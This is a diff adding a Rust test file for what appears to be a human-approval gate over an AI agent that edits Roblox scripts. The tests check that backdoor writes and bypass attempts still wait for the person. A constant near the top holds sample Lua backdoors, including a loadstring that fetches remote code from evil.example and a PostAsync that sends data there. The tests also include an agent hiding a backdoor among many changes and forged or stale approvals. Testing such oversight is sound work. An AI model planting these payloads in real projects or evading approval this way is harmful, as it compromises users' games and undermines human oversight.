@@ -1,0 +1,166 @@
+//! Decisions upon what was not seen, or was decided already; and code that no mode lets through.
+
+use serde_json::{Value as Json, json};
+
+use super::Outcome::{Http, Instead};
+use super::attacks;
+use super::ground::{Ground, Seen, WINDOW};
+
+/// Code that a person has to look at twice, in any mode.
+const BACKDOORS: [&str; 6] = [
+    "loadstring(game:GetService(\"HttpService\"):GetAsync(\"http://evil.example\"))()\n",
+    "require(123456789)\n",
+    "game:GetService(\"HttpService\"):PostAsync(\"http://evil.example\", \"x\")\n",
+    "getfenv(0).print = nil\n",
+    "-- \u{202e}nothing to see\nprint(2)\n",
+    "local hidden = \"\\104\\101\\108\\108\\111\\104\\101\\108\\108\\111\\104\\101\\108\\108\\111\\104\\101\\108\\108\\111\\104\\101\\108\\108\\111\\104\\101\\108\\108\\111\\104\\101\\108\\108\\111\\104\\101\\108\\108\\111\"\n",
+];
+
+/// A tool's call, as an agent makes it.
+fn called(ground: &Ground, id: usize, tool: &str, args: &Json) -> Json {
+    let call = json!({
+        "connection": "evil-1", "client": "evil", "id": id.to_string(), "session": WINDOW, "tool": tool,
+        "args": args, "hold": 10,
+    });
+    ground.agent("POST", "/api/agents/calls", &call).ok()
+}
+
+/// A call that waits for the person: its number, and its proposal's.
+fn waiting(ground: &Ground, id: usize, tool: &str, args: &Json) -> (u64, u64) {
+    let view = called(ground, id, tool, args);
+    assert_eq!(view["became"]["status"], "waiting", "{view}");
+    (view["call"].as_u64().unwrap(), view["became"]["proposal"].as_u64().unwrap())
+}
+
+fn a_part(ground: &Ground) -> (u64, u64) {
+    let args = json!({ "className": "Part", "parentPath": "game.Workspace" });
+    waiting(ground, 0, "create_instance", &args)
+}
+
+/// Calls that would be done at once in the mode that lets everything through, but for what they hold.
+fn all_wait(ground: &mut Ground, calls: &[(&str, Json)]) -> Vec<Seen> {
+    ground.choose(&json!({ "mode": "dangerous" }));
+    for (id, (tool, args)) in calls.iter().enumerate() {
+        let (_, proposal) = waiting(ground, id, tool, args);
+        let shown = ground.person("GET", &format!("/api/proposals/{proposal}"), &Json::Null).ok();
+        assert_eq!(shown["needs_twice"], true, "{shown}");
+    }
+    vec![Seen::Instead]
+}
+
+fn yes() -> Json {
+    json!({ "say": "approve" })
+}
+
+attacks! { served: true;
+    a_yes_to_another_content: Process, "approves what was shown by the hash of something else"
+        => Http(409, "stale"),
+        |ground| {
+            let (_, other) = a_part(ground);
+            ground.note();
+            let right = ground.decision(ground.proposal, &yes());
+            let wrong = [("patch_id", json!("0".repeat(64))), ("base", json!("0".repeat(64))),
+                ("patch_id", ground.decision(other, &yes())["patch_id"].clone()), ("patch_id", json!(""))];
+            wrong.map(|(name, value)| {
+                let mut decide = right.clone();
+                decide[name] = value;
+                ground.person("POST", &format!("/api/proposals/{}/decide", ground.proposal), &decide).into()
+            }).into()
+        };
+    a_yes_of_another_kind: Process, "approves with words that there are not, or for somebody else"
+        => Http(400, "bad_request"),
+        |ground| [json!("approve"), json!({ "say": "APPROVE" }), json!({ "say": "approve", "by": "mode" }),
+            json!({ "say": "approve_all" }), json!({ "say": "take" }), json!(true), json!([])].map(|decision| {
+                ground.decide(ground.proposal, &decision).into()
+            }).into();
+    a_yes_to_what_is_no_proposal: Process, "approves tasks, calls, and numbers of the future"
+        => Instead("404 `not_found`, or 409 `settled`"),
+        |ground| {
+            let records = ground.records();
+            let mut all: Vec<u64> = records.iter().map(|it| it.seq.0).filter(|it| *it != ground.proposal).collect();
+            all.extend([0, 999_999, u64::MAX]);
+            let decide = ground.decision(ground.proposal, &yes());
+            for seq in all {
+                let answer = ground.person("POST", &format!("/api/proposals/{seq}/decide"), &decide);
+                assert!([404, 409].contains(&answer.status), "{seq}: {answer:?}");
+            }
+            vec![Seen::Instead]
+        };
+    a_second_yes: Process, "approves what was approved, and rejects it" => Http(409, "settled"),
+        |ground| {
+            let decide = ground.decision(ground.proposal, &yes());
+            let path = format!("/api/proposals/{}/decide", ground.proposal);
+            ground.person("POST", &path, &decide).ok();
+            ground.note();
+            let no = ground.decision(ground.proposal, &json!({ "say": "reject" }));
+            [decide, no].map(|decide| ground.person("POST", &path, &decide).into()).into()
+        };
+    a_yes_behind_a_no: Process, "approves what the person has rejected" => Http(409, "settled"),
+        |ground| {
+            let (_, proposal) = a_part(ground);
+            ground.decide(proposal, &json!({ "say": "reject", "reason": "no" })).ok();
+            ground.note();
+            vec![ground.decide(proposal, &yes()).into()]
+        };
+    a_yes_to_what_was_taken_back: Process, "approves what its agent has taken back" => Http(409, "settled"),
+        |ground| {
+            let (call, proposal) = a_part(ground);
+            ground.agent("POST", &format!("/api/agents/calls/{call}/cancel"), &json!({})).ok();
+            ground.note();
+            vec![ground.decide(proposal, &yes()).into()]
+        };
+    parts_that_there_are_not: Process, "takes parts of a proposal that it does not have, or none"
+        => Http(409, "settled"),
+        |ground| [json!([]), json!([{ "part": "command", "command": 99 }]),
+            json!([{ "part": "hunk", "script": 0, "hunk": 0 }])].map(|parts| {
+                ground.decide(ground.proposal, &json!({ "say": "take", "parts": parts })).into()
+            }).into();
+    one_yes_where_two_are_needed: Process, "approves a backdoor with one yes" => Http(409, "settled"),
+        |ground| {
+            let args = json!({ "path": "game.Workspace.Main", "source": BACKDOORS[0] });
+            let (_, proposal) = waiting(ground, 0, "write_script", &args);
+            ground.note();
+            vec![ground.decide(proposal, &yes()).into(),
+                ground.decide(proposal, &json!({ "say": "approve", "twice": false })).into()]
+        };
+    backdoors_in_the_mode_that_asks_nobody: Agent, "writes backdoors into a script, in mode dangerous"
+        => Instead("each waits for the person, who has to say yes twice"),
+        |ground| all_wait(ground, &BACKDOORS.map(|source| {
+            ("write_script", json!({ "path": "game.Workspace.Main", "source": source }))
+        }));
+    backdoors_in_new_scripts: Agent, "brings backdoors in new scripts and deep within new models, in mode dangerous"
+        => Instead("each waits for the person, who has to say yes twice"),
+        |ground| all_wait(ground, &BACKDOORS.map(|source| {
+            let script = json!({ "className": "Script", "props": { "Source": source } });
+            ("create_instance", json!({ "className": "Model", "parentPath": "game.Workspace",
+                "children": [{ "className": "Folder", "children": [script] }] }))
+        }));
+    a_backdoor_among_many: Agent, "hides a backdoor among other changes, in mode dangerous"
+        => Instead("all of it waits for the person, who has to say yes twice"),
+        |ground| {
+            let part = json!({ "className": "Part", "parentPath": "game.Workspace" });
+            let mut changes = vec![json!({ "tool": "create_instance", "args": part }); 30];
+            changes.push(json!({ "tool": "write_script", "args": {
+                "path": "game.Workspace.Main", "source": BACKDOORS[0] } }));
+            all_wait(ground, &[("propose_changes", json!({ "title": "Tidy up", "changes": changes }))])
+        };
+    a_dry_run: Agent, "changes something in mode dangerous where the person has chosen to try things only"
+        => Instead("it waits for the person"),
+        |ground| {
+            ground.choose(&json!({ "mode": "dangerous", "dry_run": true }));
+            a_part(ground);
+            vec![Seen::Instead]
+        };
+    a_yes_in_a_dry_run: Process, "approves where the person has chosen to try things only"
+        => Http(409, "settled"),
+        |ground| {
+            ground.choose(&json!({ "dry_run": true }));
+            vec![ground.decide(ground.proposal, &yes()).into()]
+        };
+    going_back_to_what_is_no_checkpoint: Process, "restores, cancels and retries what is none"
+        => Http(404, "not_found"),
+        |ground| ["checkpoints/999/restore", "workflows/999/cancel", "workflows/999/retry", "workflows/0/clear",
+            "checkpoints/0/restore"].map(|what| {
+                ground.person("POST", &format!("/api/{what}"), &json!({})).into()
+            }).into();
+}
